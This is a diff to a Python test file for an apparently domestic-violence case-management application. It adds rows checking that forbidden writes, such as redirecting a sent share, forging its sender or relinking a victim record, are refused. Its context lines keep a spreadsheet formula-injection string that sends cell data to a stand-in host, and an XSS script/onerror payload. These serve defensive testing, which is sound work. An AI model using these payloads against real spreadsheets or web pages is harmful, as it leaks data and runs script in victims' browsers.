@@ -22,8 +22,10 @@ from zoneinfo import ZoneInfo
 from clients import MAIL
 from rpc import Client, RpcError
 
-# The guard's German message (dv.guard.mixin) for a state written directly.
+# The guard's German messages (dv.guard.mixin): a state or status written
+# directly, and a field the application sets or fixes at creation.
 STATE_BY_BUTTONS = "Der Status ändert sich nur über die Schaltflächen des Formulars"
+SET_BY_APPLICATION = "kann hier nicht geändert werden: die Anwendung setzt es"
 FORMULA = '=HYPERLINK("http://example.invalid/?d="&A1,"Details")'
 SCRIPT = '<script>alert("dv")</script><img src="x" onerror="alert(1)">'
 
@@ -768,6 +770,33 @@ ROWS = (
         watch=watch("dv_share", "share"),
     ),
     Row(
+        "action_status_written",
+        "a conference action marked done by writing its status",
+        "manager",
+        write(
+            "dv.conference.action",
+            "action",
+            lambda f: {"status": "done"},
+            user="manager",
+        ),
+        error="ValidationError",
+        german=STATE_BY_BUTTONS,
+        watch=watch("dv_conference_action", "action"),
+    ),
+    Row(
+        "action_status_by_owner",
+        "the owner agency writing its action's status and due date",
+        "caseworker",
+        write(
+            "dv.conference.action",
+            "action",
+            lambda f: {"status": "done", "due_date": str(f.future)},
+        ),
+        error="AccessError",
+        german="meldet ihren Stand",
+        watch=watch("dv_conference_action", "action"),
+    ),
+    Row(
         "contact_declined_referral",
         "contacting a declined referral again",
         "caseworker",
@@ -818,6 +847,79 @@ ROWS = (
         error="AccessError",
         german="zu löschen",
         watch=watch("dv_case", "case_new"),
+    ),
+    # Fields the application sets, and what is fixed at creation
+    Row(
+        "share_case_changed",
+        "pointing a sent share at another case",
+        "caseworker",
+        write("dv.share", "share", lambda f: {"case_id": f.f["case_new"]}),
+        error="ValidationError",
+        german=SET_BY_APPLICATION,
+        watch=watch("dv_share", "share"),
+    ),
+    Row(
+        "share_recipient_changed",
+        "redirecting a sent share to another agency",
+        "caseworker",
+        write("dv.share", "share", lambda f: {"to_agency_id": f.neighbour}),
+        error="ValidationError",
+        german=SET_BY_APPLICATION,
+        watch=watch("dv_share", "share"),
+    ),
+    Row(
+        "share_consent_changed",
+        "resting a sent share on a consent afterwards",
+        "caseworker",
+        write(
+            "dv.share",
+            "share",
+            lambda f: {"legal_basis": "consent", "consent_id": f.f["consent"]},
+        ),
+        error="ValidationError",
+        german=SET_BY_APPLICATION,
+        watch=watch("dv_share", "share"),
+    ),
+    Row(
+        "share_forged_sender",
+        "a share naming another agency as its sender",
+        "caseworker",
+        create("dv.share", lambda f: f.share(from_agency_id=f.neighbour)),
+        error="ValidationError",
+        german=SET_BY_APPLICATION,
+    ),
+    Row(
+        "case_victim_changed",
+        "making the perpetrator the victim of a case by its link",
+        "caseworker",
+        write("dv.case", "case_progress", lambda f: {"victim_id": f.f["perpetrator"]}),
+        error="ValidationError",
+        german=SET_BY_APPLICATION,
+        watch=watch("dv_case", "case_progress"),
+    ),
+    Row(
+        "person_protected_changed",
+        "linking a victim to another person's protected details",
+        "caseworker",
+        write(
+            "dv.person", "victim", lambda f: {"protected_id": f.f["protected_other"]}
+        ),
+        error="ValidationError",
+        german=SET_BY_APPLICATION,
+        watch=watch("dv_person", "victim"),
+    ),
+    Row(
+        "attempt_moved",
+        "moving a contact attempt to another referral",
+        "caseworker",
+        write(
+            "dv.contact.attempt",
+            "attempt",
+            lambda f: {"referral_id": f.f["referral_open"]},
+        ),
+        error="ValidationError",
+        german=SET_BY_APPLICATION,
+        watch=watch("dv_contact_attempt", "attempt"),
     ),
     # Other refusals of the application
     Row(
